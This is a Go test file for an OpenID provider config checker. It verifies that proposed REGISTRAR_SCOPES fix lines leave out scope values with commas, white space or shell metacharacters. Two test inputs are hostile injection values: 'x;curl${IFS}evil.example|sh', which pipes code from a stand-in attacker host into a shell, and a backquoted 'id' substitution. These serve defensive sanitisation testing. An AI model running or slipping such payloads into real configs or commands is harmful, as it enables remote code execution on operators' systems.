package checkop_test

import (
	"strings"
	"testing"

	"github.com/registrar/registrar/internal/checkop"
)

// TestFixProposesOnlyValuesASettingCanHold: when a fix proposes the OP's
// own values (scopes_supported for an unset REGISTRAR_SCOPES), it leaves
// out what a comma-separated REGISTRAR_* list cannot hold (a comma, white
// space) and what a shell would run when the operator pastes the line
// (";", "$", "`", "|", "&", quotes…): RFC 6749 §3.3 allows all but white
// space, quote and backslash in a scope token, and a fix line is pasted
// as it is. Setting the fix then makes the report clean.
func TestFixProposesOnlyValuesASettingCanHold(t *testing.T) {
	env := map[string]string{"ID_TOKEN_SIGNING_ALGS": "RS256", "GRANT_TYPES": "authorization_code", "TOKEN_ENDPOINT_AUTH_METHODS": "client_secret_basic",
		"USERINFO_SIGNING_ALGS": "", "REQUEST_OBJECT_SIGNING_ALGS": "", "ENCRYPTION_ALGS": "", "RP_INITIATED_LOGOUT": "false", "FRONTCHANNEL_LOGOUT": "false",
		"BACKCHANNEL_LOGOUT": "false", "PUSHED_AUTHORIZATION_REQUESTS": "false", "DPOP_BOUND_ACCESS_TOKENS": "false", "TLS_CLIENT_CERTIFICATE_BOUND_ACCESS_TOKENS": "false", "RICH_AUTHORIZATION_REQUESTS": "false"}
	const rest = `"response_types_supported":["code"],"subject_types_supported":["public"],"id_token_signing_alg_values_supported":["RS256"],"grant_types_supported":["authorization_code"],"token_endpoint_auth_methods_supported":["client_secret_basic"]`
	tests := []struct {
		name   string
		scopes string
		want   string
	}{
		{"a scope with a comma", `["openid","read,write","email"]`, "fix: REGISTRAR_SCOPES=openid,email"},
		{"a scope a shell would run", `["openid","x;curl${IFS}evil.example|sh","email"]`, "fix: REGISTRAR_SCOPES=openid,email"},
		{"a scope in backquotes", "[\"openid\",\"`id`\"]", "fix: REGISTRAR_SCOPES=openid"},
		{"a scope with white space", `["openid","two words"]`, "fix: REGISTRAR_SCOPES=openid"},
		{"URL and colon scopes are kept", `["openid","https://api.example/read","repo:status","user.read"]`, "fix: REGISTRAR_SCOPES=openid,https://api.example/read,repo:status,user.read"},
		{"no value a setting can hold", `["a;b"]`, "fix: none in common"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			doc := parse(t, `{"issuer":"https://op.example","scopes_supported":`+tc.scopes+`,`+rest+`}`)
			ms := checkop.Compare(doc, loadConfig(t, env))
			got := lines(ms)
			if len(got) != 1 || !strings.HasSuffix(got[0], tc.want) && !strings.Contains(got[0], tc.want+":") {
				t.Fatalf("got\n  %s\nwant one line with %q", strings.Join(got, "\n  "), tc.want)
			}
			if strings.Contains(tc.want, "none in common") {
				return
			}
			fixed := applyFixes(t, env, ms)
			if again := lines(checkop.Compare(doc, loadConfig(t, fixed))); len(again) > 0 {
				t.Errorf("with the fix applied (%v), still:\n  %s", fixed, strings.Join(again, "\n  "))
			}
		})
	}
}
